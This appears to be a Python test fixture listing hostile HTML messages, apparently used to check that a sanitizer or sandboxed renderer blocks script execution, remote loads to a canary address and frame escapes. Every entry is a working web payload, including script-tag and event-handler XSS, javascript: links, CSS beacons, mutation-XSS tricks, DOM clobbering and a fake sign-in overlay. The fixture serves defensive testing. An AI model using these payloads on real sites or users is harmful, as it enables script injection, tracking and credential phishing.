"""Hostile messages, written by us: each tries to run a script, to reach the canary, or to leave its frame.

`{c}` is the canary's address; a script that runs would set `parent.hacked` or fetch from the canary.
"""

RUN = "parent.hacked=1;top.hacked=1;fetch('{c}/ran')"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script in svg": f"<svg><script>{RUN}</script></svg>",
    "onerror": f'<img src=x onerror="{RUN}">',
    "onload on svg": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "onload on body": f'<body onload="{RUN}" background="{{c}}/body.png">',
    "details toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "javascript link": f'<a href="javascript:{RUN}">click</a><a href=" &#x6a;avascript:{RUN}">click</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    "remote image": (
        '<img src="{c}/pixel.gif"><img srcset="{c}/set.gif 2x"><picture><source srcset="{c}/p.gif"></picture>'
    ),
    "css url": '<div style="background:url({c}/bg.png);width:9px">x</div>',
    "css url escaped": '<div style="background:\\75rl({c}/esc.png)">x</div>',
    "css image-set": "<div style=\"background-image:image-set('{c}/set.png' 1x)\">x</div>",
    "css variable": "<style>*{{--x:url({c}/var.png)}} p{{background:var(--x)}}</style><p>x</p>",
    "css import": "<style>@import '{c}/a.css'; @import url({c}/b.css);</style>",
    "css font": ("<style>@font-face{{font-family:z;src:url({c}/f.woff)}} p{{font-family:z}}</style><p>x</p>"),
    "css comment trick": "<style><!-- p{{background:url({c}/c.png)}} --></style><p>x</p>",
    "css list and cursor": '<ul style="list-style:url({c}/l.png);cursor:url({c}/k.png),auto"><li>x</ul>',
    "css content": "<style>p::after{{content:url({c}/content.png)}}</style><p>x</p>",
    "css layer": (
        "<style>@layer z{{p{{background:url({c}/layer.png)}}}} "
        "@supports(display:grid){{p{{background:url({c}/s.png)}}}}</style><p>x</p>"
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url={c}/refresh"><base href="{c}/">x<a href="rel">y</a>'
    ),
    "link": (
        '<link rel=stylesheet href="{c}/l.css"><link rel=preload as=image '
        'href="{c}/pre.png"><link rel=dns-prefetch href="{c}">'
    ),
    "form": (
        '<form action="{c}/form"><input name=q autofocus onfocus="{c}"><button '
        'formaction="{c}/b">go</button></form>'
    ),
    "frames": (
        '<iframe src="{c}/f" srcdoc="<script>top.hacked=1</script>"></iframe><object '
        'data="{c}/o"></object><embed src="{c}/e">'
    ),
    "media": ('<video src="{c}/v" poster="{c}/poster" autoplay></video><audio src="{c}/a" autoplay></audio>'),
    "svg image": '<svg><image href="{c}/i.png"/><use href="{c}/u.svg#x"/></svg>',
    "math": (
        "<math><mtext><table><mglyph><style><img src=x "
        f'onerror="{RUN}"></style></mglyph></table></mtext></math>'
    ),
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation by style": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "template": (
        f'<template><img src=x onerror="{RUN}"></template><div><template '
        f"shadowrootmode=open><script>{RUN}</script></template></div>"
    ),
    "clobbering": (
        "<img name=body><a id=contentDocument></a><form id=documentElement></form><a "
        "id=__proto__ name=x>x</a>"
    ),
    "table background": '<table background="{c}/t.png"><tr><td background="{c}/td.png">x</table>',
    "over the page": (
        '<div style="position:fixed;inset:0;z-index:9999;margin:-99px;animation:x '
        '1s;background:red">Sign in</div>'
    ),
    "target": '<a href="https://x.test" target="_top" onclick="top.hacked=1">leave</a>',
    "xml data": (
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'/>\">"
    ),
}
